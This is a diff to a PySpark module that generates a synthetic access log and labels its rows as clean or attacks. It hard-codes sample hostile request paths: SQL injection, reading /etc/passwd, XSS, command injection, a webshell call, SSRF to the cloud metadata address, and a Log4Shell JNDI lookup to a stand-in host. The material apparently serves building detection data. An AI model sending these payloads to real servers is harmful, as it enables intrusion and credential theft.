@@ -8,38 +8,50 @@ from pyspark.sql import functions as F
 from ..operators.parse import build_message, status_level
 from ..schema import EVENT_FIELDS
 
-# Runs unchanged in Spark SQL and other engines; {events} and {pages} are relations.
-ACCESS_LOG_SQL = """
-SELECT e.event_id, e.ts AS event_ts, concat('edge-0', CAST(e.event_id % 4 + 1 AS VARCHAR(20))) AS host,
- concat('10.0.', CAST(e.user_id % 4 AS VARCHAR(20)), '.', CAST(e.user_id % 250 + 2 AS VARCHAR(20))) AS remote_addr,
- CASE WHEN e.user_id % 6 = 0 THEN concat('user', CAST(e.user_id AS VARCHAR(20))) END AS remote_user,
- CASE WHEN e.event_type IN ('signup','purchase') THEN 'POST' WHEN e.event_type = 'error' AND e.event_id % 2 = 0 THEN 'DELETE' ELSE 'GET' END AS method,
- CASE WHEN e.event_id % 20 <> 0 THEN regexp_extract(p.url, '^https?://[^/]+(/[^#]*)', 1)
-      WHEN e.event_id % 160 = 0 THEN '/search?q=1%27%20UNION%20SELECT%20pw'
-      WHEN e.event_id % 160 = 20 THEN '/../../etc/passwd'
-      WHEN e.event_id % 160 = 40 THEN '/page?x=<script>alert(1)</script>'
-      WHEN e.event_id % 160 = 60 THEN '/ping?h=$(id)'
-      WHEN e.event_id % 160 = 80 THEN '/uploads/cmd.php?cmd=id'
-      WHEN e.event_id % 160 = 100 THEN '/fetch?url=http://169.254.169.254/meta'
-      WHEN e.event_id % 160 = 120 THEN '/s?q=${{jndi:ldap://x.test/a}}'
+# The select list reads the same in Spark SQL and other engines.
+ACCESS_LOG_COLUMNS = """
+event_id, ts AS event_ts, concat('edge-0', CAST(event_id % 4 + 1 AS VARCHAR(20))) AS host,
+ concat('10.0.', CAST(user_id % 4 AS VARCHAR(20)), '.', CAST(user_id % 250 + 2 AS VARCHAR(20))) AS remote_addr,
+ CASE WHEN user_id % 6 = 0 THEN concat('user', CAST(user_id AS VARCHAR(20))) END AS remote_user,
+ CASE WHEN event_type IN ('signup','purchase') THEN 'POST' WHEN event_type = 'error' AND event_id % 2 = 0 THEN 'DELETE' ELSE 'GET' END AS method,
+ CASE WHEN event_id % 20 <> 0 THEN regexp_extract(url, '^https?://[^/]+(/[^#]*)', 1)
+      WHEN event_id % 160 = 0 THEN '/search?q=1%27%20UNION%20SELECT%20pw'
+      WHEN event_id % 160 = 20 THEN '/../../etc/passwd'
+      WHEN event_id % 160 = 40 THEN '/page?x=<script>alert(1)</script>'
+      WHEN event_id % 160 = 60 THEN '/ping?h=$(id)'
+      WHEN event_id % 160 = 80 THEN '/uploads/cmd.php?cmd=id'
+      WHEN event_id % 160 = 100 THEN '/fetch?url=http://169.254.169.254/meta'
+      WHEN event_id % 160 = 120 THEN '/s?q=${jndi:ldap://x.test/a}'
       ELSE '/.env' END AS path,
  'HTTP/1.1' AS protocol,
- CASE WHEN e.event_type = 'error' AND e.event_id % 4 = 0 THEN 401 WHEN e.event_type = 'error' AND e.event_id % 4 = 1 THEN 404
-      WHEN e.event_type = 'error' AND e.event_id % 4 = 2 THEN 405 WHEN e.event_type = 'error' THEN 500 WHEN e.event_id % 10 = 3 THEN 301 ELSE 200 END AS status,
- CAST(floor(e.value * 100) AS BIGINT) AS bytes_sent,
- CASE WHEN e.event_id % 3 = 0 THEN p.url END AS referrer,
- CASE WHEN e.event_id % 40 = 0 THEN 'sqlmap/1.7.2' WHEN e.event_id % 50 = 7 THEN 'ExampleBot/1.0' WHEN e.event_id % 11 = 0 THEN CAST(NULL AS VARCHAR(20)) ELSE 'Mozilla/5.0 (X11; Linux x86_64)' END AS user_agent,
- e.value / 100 AS request_time,
- CASE WHEN e.event_id % 20 <> 0 THEN 'clean' WHEN e.event_id % 160 = 0 THEN 'attack:sqli' WHEN e.event_id % 160 IN (20, 100) THEN 'attack:path_or_ssrf'
-      WHEN e.event_id % 160 = 40 THEN 'attack:xss' WHEN e.event_id % 160 = 60 THEN 'attack:command_injection' WHEN e.event_id % 160 = 80 THEN 'attack:webshell'
-      WHEN e.event_id % 160 = 120 THEN 'attack:log4shell' ELSE 'attack:scanner' END AS label
-FROM {events} e CROSS JOIN (SELECT count(*) AS n FROM {pages}) c JOIN {pages} p ON p.page_id = e.event_id % c.n
+ CASE WHEN event_type = 'error' AND event_id % 4 = 0 THEN 401 WHEN event_type = 'error' AND event_id % 4 = 1 THEN 404
+      WHEN event_type = 'error' AND event_id % 4 = 2 THEN 405 WHEN event_type = 'error' THEN 500 WHEN event_id % 10 = 3 THEN 301 ELSE 200 END AS status,
+ CAST(floor(value * 100) AS BIGINT) AS bytes_sent,
+ CASE WHEN event_id % 3 = 0 THEN url END AS referrer,
+ CASE WHEN event_id % 40 = 0 THEN 'sqlmap/1.7.2' WHEN event_id % 50 = 7 THEN 'ExampleBot/1.0' WHEN event_id % 11 = 0 THEN CAST(NULL AS VARCHAR(20)) ELSE 'Mozilla/5.0 (X11; Linux x86_64)' END AS user_agent,
+ value / 100 AS request_time,
+ CASE WHEN event_id % 20 <> 0 THEN 'clean' WHEN event_id % 160 = 0 THEN 'attack:sqli' WHEN event_id % 160 IN (20, 100) THEN 'attack:path_or_ssrf'
+      WHEN event_id % 160 = 40 THEN 'attack:xss' WHEN event_id % 160 = 60 THEN 'attack:command_injection' WHEN event_id % 160 = 80 THEN 'attack:webshell'
+      WHEN event_id % 160 = 120 THEN 'attack:log4shell' ELSE 'attack:scanner' END AS label
 """
+# Join of the two tables for engines other than Spark.
+ACCESS_LOG_SQL = (
+    f"SELECT {ACCESS_LOG_COLUMNS} FROM events e CROSS JOIN (SELECT count(*) AS n FROM pages) c "
+    "JOIN pages p ON p.page_id = e.event_id % c.n"
+)
 
 
 def access_log_view(events: DataFrame, pages: DataFrame) -> DataFrame:
-    """The access log over given tables; ``events`` may be a stream."""
-    return events.sparkSession.sql(ACCESS_LOG_SQL, events=events, pages=pages)
+    """The access log over given tables; ``events`` may be a stream.
+
+    The page number is computed before the join, so that the join stays an
+    equi-join on one column whatever filters are pushed towards it.
+    """
+    count = pages.agg(F.count("*").alias("_pages"))
+    numbered = events.join(F.broadcast(count)).withColumn("_page", F.col("event_id") % F.col("_pages"))
+    urls = pages.select(F.col("page_id").alias("_page"), "url")
+    joined = numbered.join(urls, "_page")
+    return events.sparkSession.sql(f"SELECT {ACCESS_LOG_COLUMNS.replace('{', '{{').replace('}', '}}')} FROM {{log}}", log=joined)
 
 
 def access_log_events(spark: SparkSession, folder: str) -> DataFrame:
